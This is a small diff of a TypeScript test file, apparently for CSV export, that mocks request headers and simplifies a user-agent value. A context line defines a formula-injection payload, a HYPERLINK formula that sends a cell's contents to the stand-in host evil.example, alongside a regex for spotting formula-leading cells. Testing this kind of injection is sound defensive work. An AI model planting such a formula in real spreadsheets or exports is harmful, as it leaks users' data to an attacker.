@@ -13,10 +13,9 @@ const FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 const STARTS_A_FORMULA = /^[=+\-@\t\r]/;
 
 let cookie: string | undefined;
-let userAgent = "csv-test";
 vi.mock("next/headers", () => ({
   cookies: async () => ({ get: () => (cookie ? { value: cookie } : undefined) }),
-  headers: async () => new Headers({ "user-agent": userAgent, "x-real-ip": "198.51.100.61" }),
+  headers: async () => new Headers({ "user-agent": "csv-test", "x-real-ip": "198.51.100.61" }),
 }));
 
 let database: TestDatabase;
